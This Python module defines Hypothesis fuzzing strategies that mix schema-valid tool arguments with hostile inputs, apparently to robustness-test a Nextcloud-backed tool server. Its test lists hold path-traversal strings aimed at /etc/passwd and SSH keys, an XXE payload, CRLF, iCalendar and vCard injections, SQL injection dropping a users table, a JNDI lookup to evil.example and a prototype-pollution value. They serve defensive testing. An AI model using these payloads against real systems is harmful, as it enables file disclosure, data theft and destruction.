"""Hypothesis strategies for tool arguments, derived from a tool's JSON input schema (as tools/list sends it).

`arguments(schema)` mixes values inside the schema (so calls get past validation and reach Nextcloud)
with hostile values outside it: wrong types, huge strings, Unicode edge cases, path escapes and strings
shaped to inject into WebDAV XML, OCS query strings, iCalendar and vCard.
"""

from __future__ import annotations

import math
from typing import Any

from hypothesis import strategies as st

__all__ = ["HOSTILE_STRINGS", "arguments"]

PATH_ESCAPES = [
    "../../../etc/passwd",
    "..",
    "/..",
    "a/../../b",
    "./../x",
    "%2e%2e/%2e%2e/etc/passwd",
    "..%2f..%2fetc",
    "..\\..\\windows\\win.ini",
    "/etc/passwd",
    "~/.ssh/id_rsa",
    "file:///etc/passwd",
    "//evil.example/x",
    "\\\\server\\share",
    "/remote.php/dav/files/bob/secret.txt",
    "../bob/Documents",
]
INJECTIONS = [
    "</d:prop><d:href>/remote.php/dav/files/bob/</d:href>",
    '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>',
    "<![CDATA[x]]>&amp;&lt;&",
    "alice&shareType=3&permissions=31",
    "x?format=xml#frag",
    "x\r\nX-Injected: 1",
    "x\r\nEND:VEVENT\r\nBEGIN:VEVENT\r\nUID:evil\r\nSUMMARY:injected",
    "x\nATTENDEE:mailto:evil@example.com",
    "x\r\nEND:VCARD\r\nBEGIN:VCARD\r\nFN:evil",
    "x;VALUE=URI:http://evil.example",
    "' OR 1=1 --",
    '"; DROP TABLE oc_users; --',
    "{{7*7}}${jndi:ldap://evil.example/a}",
    "%00%0d%0a",
]
UNICODE_EDGES = [
    "",
    " ",
    "\u0000",
    "nul\u0000byte",
    "\ud800",
    "\u202eevil.txt",
    "e\u0301",
    "\u200b\u200d\ufeff",
    "👩‍👩‍👧‍👦",
    "\U0001d518\U0001d52b\U0001d526",  # mathematical Fraktur letters
    "\r\n\t",
    "ﷺ" * 50,
    "Ω≈ç√∫",
    "\x7f\x1b[31m",
]
HUGE = ["A" * 70_000, "é" * 20_000, "x/" * 3000, "[" * 5000]
HOSTILE_STRINGS = PATH_ESCAPES + INJECTIONS + UNICODE_EDGES + HUGE
WRONG_TYPES: list[Any] = [None, True, 0, -1, 2**63, -(2**63) - 1, 1.5, math.inf, "", "1", [], ["a"], {}, {"a": 1}]


def _string(schema: dict[str, Any]) -> st.SearchStrategy[Any]:
    low, high = int(schema.get("minLength", 0)), schema.get("maxLength")
    high = min(int(high), 300) if high is not None else 300
    if "enum" in schema:
        return st.sampled_from(schema["enum"])
    if "pattern" in schema:
        return st.from_regex(schema["pattern"], fullmatch=True).filter(lambda s: low <= len(s) <= high)
    fitting = [s for s in HOSTILE_STRINGS if low <= len(s) <= high]
    plain = st.text(min_size=low, max_size=max(low, min(high, 40)))
    return st.one_of(plain, st.sampled_from(fitting)) if fitting else plain


def _integer(schema: dict[str, Any]) -> st.SearchStrategy[Any]:
    low = schema.get("minimum", schema.get("exclusiveMinimum", -(2**31)))
    high = schema.get("maximum", 2**53)
    low, high = int(low), int(high)
    return st.one_of(
        st.integers(low, min(high, low + 5)),
        st.integers(max(low, 0), max(low, min(high, 20))),  # small values, or the minimum when it is above 20
        st.integers(low, high),
    )


def valid(schema: dict[str, Any]) -> st.SearchStrategy[Any]:
    """Values the schema accepts (bounded)."""
    if "enum" in schema:
        return st.sampled_from(schema["enum"])
    for key in ("anyOf", "oneOf"):
        if key in schema:
            return st.one_of([valid(s) for s in schema[key]])
    kind = schema.get("type")
    if isinstance(kind, list):
        return st.one_of([valid({**schema, "type": k}) for k in kind])
    if kind == "string":
        return _string(schema)
    if kind == "integer":
        return _integer(schema)
    if kind == "number":
        return st.floats(allow_nan=False, allow_infinity=False, min_value=schema.get("minimum"))
    if kind == "boolean":
        return st.booleans()
    if kind == "null":
        return st.none()
    if kind == "array":
        items = schema.get("items", {"type": "string"})
        return st.lists(valid(items), max_size=min(int(schema.get("maxItems", 4)), 4))
    if kind == "object":
        return arguments(schema, hostile_rate=0)
    return st.sampled_from(WRONG_TYPES)


def hostile() -> st.SearchStrategy[Any]:
    """Values outside (most) schemas: wrong types and hostile strings regardless of constraints."""
    return st.one_of(st.sampled_from(WRONG_TYPES), st.sampled_from(HOSTILE_STRINGS))


def arguments(schema: dict[str, Any], hostile_rate: float = 0.3) -> st.SearchStrategy[dict[str, Any]]:
    """Argument objects for `schema`: each property valid or (with `hostile_rate`) hostile; sometimes a
    required property is missing or an unknown one is added."""
    props: dict[str, Any] = schema.get("properties", {})
    required = set(schema.get("required", []))

    def value(prop: dict[str, Any]) -> st.SearchStrategy[Any]:
        if not hostile_rate:
            return valid(prop)
        return st.one_of(valid(prop), valid(prop), hostile()) if hostile_rate < 0.5 else hostile()

    base = st.fixed_dictionaries(
        {k: value(v) for k, v in props.items() if k in required},
        optional={k: value(v) for k, v in props.items() if k not in required},
    )
    if not hostile_rate:
        return base
    tweaks = st.sampled_from(["none", "none", "none", "drop", "extra"])

    def tweak(args: dict[str, Any], how: str) -> dict[str, Any]:
        if how == "drop" and args:
            args = dict(list(args.items())[1:])
        elif how == "extra":
            args = {**args, "__proto__": {"admin": True}, "unknown_field": "../../x"}
        return args

    return st.builds(tweak, base, tweaks)
